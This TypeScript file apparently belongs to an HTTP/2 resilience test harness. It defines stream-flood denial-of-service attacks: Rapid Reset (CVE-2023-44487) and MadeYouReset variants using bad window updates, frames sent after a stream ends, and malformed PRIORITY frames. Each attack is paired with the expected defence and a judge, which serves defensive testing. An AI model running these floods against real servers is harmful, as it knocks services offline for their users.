// Streams that end as soon as they begin: the work of a call for the price of some bytes.

import type { Attack } from "../attack.js";
import {
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  LARGEST_WINDOW,
  PRIORITY,
  priority,
  reset,
  windowUpdate,
} from "../frames.js";
import { literal } from "../header-block.js";
import { all, cutOff, slotsHeld } from "../judges.js";
import { GREETING, Streams } from "../requests.js";
import { stay, work } from "../victim-service.js";

const STREAMS_AT_ONCE = 100;
const MADE_YOU_RESET = "CVE-2025-8671";

/** Opens streams without end, each followed by what `perStream` gives. */
function floodOfStreams(path: string, perStream: (id: number) => Buffer): Attack["run"] {
  return (campaign) =>
    campaign.wave({}, (connection) => {
      const streams = new Streams(path);
      return campaign.flood(connection, 3 * STREAMS_AT_ONCE, () =>
        streams.batch(STREAMS_AT_ONCE, perStream),
      );
    });
}

/** An attack that makes the server reset each stream. */
function madeYouReset(variant: string, does: string, perStream: (id: number) => Buffer): Attack {
  return {
    name: `made-you-reset-${variant}`,
    does: `opens streams and ${does}, so that the server resets them`,
    reference: MADE_YOU_RESET,
    defence:
      "resets count the same whoever sends them, and a slot is the handler's until it settles",
    run: floodOfStreams(stay.path, perStream),
    judge: all(slotsHeld, cutOff("ENHANCE_YOUR_CALM")),
  };
}

export const resets: readonly Attack[] = [
  {
    name: "rapid-reset",
    does: "opens streams and resets them at once",
    reference: "CVE-2023-44487",
    defence: "a bucket of 1,000 resets, refilled at 33 a second and by each call that completes",
    run: floodOfStreams(stay.path, reset),
    judge: all(slotsHeld, cutOff("ENHANCE_YOUR_CALM")),
  },
  {
    name: "rapid-reset-working",
    does: "opens streams and resets them at once, while the handlers go on regardless",
    reference: "CVE-2023-44487",
    defence: "a stream's slot stays taken until its handler has settled",
    run: floodOfStreams(work.path, reset),
    judge: all(slotsHeld, cutOff("ENHANCE_YOUR_CALM")),
  },
  madeYouReset("zero-window", "opens their windows by 0", (id) => windowUpdate(id, 0)),
  madeYouReset("window-overflow", "opens their windows past the limit", (id) =>
    windowUpdate(id, LARGEST_WINDOW),
  ),
  madeYouReset("half-closed-data", "sends DATA after their end", (id) =>
    frame(DATA, END_STREAM, id, GREETING),
  ),
  madeYouReset("half-closed-headers", "sends HEADERS after their end", (id) =>
    frame(HEADERS, END_HEADERS | END_STREAM, id, literal("x", "y")),
  ),
  madeYouReset("priority-length", "sends PRIORITY of a wrong length", (id) =>
    frame(PRIORITY, 0, id, Buffer.alloc(4)),
  ),
  madeYouReset("priority-self", "makes them depend on themselves", (id) => priority(id, id)),
];
